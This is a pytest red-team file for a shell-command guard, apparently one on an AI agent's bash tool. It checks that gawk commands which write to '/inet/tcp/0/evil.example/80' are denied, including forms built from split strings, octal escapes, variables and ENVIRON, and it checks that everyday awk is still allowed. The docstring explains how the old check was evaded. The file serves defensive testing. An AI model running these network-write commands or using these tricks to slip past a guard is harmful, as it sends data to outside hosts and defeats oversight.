"""Red team 10: gawk's network files named at run time.

gawk connects to the network for a file named `/inet/tcp/0/HOST/PORT`. The guard looked for the
text `/inet` only, so a target built at run time (`"/in" "et/…"`, an escape, a variable set by
an operand assignment `f=/inet/…`) printed to the network under builder and open; `|&` to an
/inet literal was read as "starts programs" only. Verdicts only: nothing is executed.
"""

import pytest

from conftest import GuardSetup, assert_allowed, assert_denied


@pytest.fixture(scope="module")
def setup(tmp_path_factory):
    return GuardSetup(tmp_path_factory.mktemp("rt10awk"), files={"data.txt": "a 1\n"})


@pytest.mark.parametrize("role", ["builder", "open"])
@pytest.mark.parametrize("command", [
    "awk 'BEGIN{f=\"/in\" \"et/tcp/0/evil.example/80\"; print \"x\" > f}'",
    "awk '{print > f}' f=/inet/tcp/0/evil.example/80 data.txt",
    "awk -v f=/inet/tcp/0/evil.example/80 '{print >> f}' data.txt",
    "awk 'BEGIN{print \"x\" > \"/\\151net/tcp/0/evil.example/80\"}'",
    "awk '{printf(\"%s\", $0) > ENVIRON[\"T\"]}' data.txt",
])
def test_awk_printing_to_a_file_named_at_run_time_could_reach_the_network(setup, command, role):
    assert_denied(setup.bash(command, role=role), "names at run time")


def test_awk_two_way_pipe_to_an_inet_file_is_network_under_open(setup):
    assert_denied(setup.bash("awk 'BEGIN{print \"x\" |& \"/inet/tcp/0/evil.example/80\"}'", role="open"),
                  "network", "/inet")


@pytest.mark.parametrize("role", ["builder", "open"])
@pytest.mark.parametrize("command", [
    "awk '$2 > 0 {print $1}' data.txt",
    "awk 'NR>1{print $1 > \"out.txt\"}' data.txt",
    "awk '{ if ($2 > 5) print $1, ($2 > 3) }' data.txt",
    "awk '{printf \"%s\\n\", $1 > \"/dev/stderr\"}' data.txt",
    "awk '{print $1 >> \"a.log\"; n++} END {print n}' data.txt",
])
def test_everyday_awk_stays_allowed(setup, command, role):
    assert_allowed(setup.bash(command, role=role))
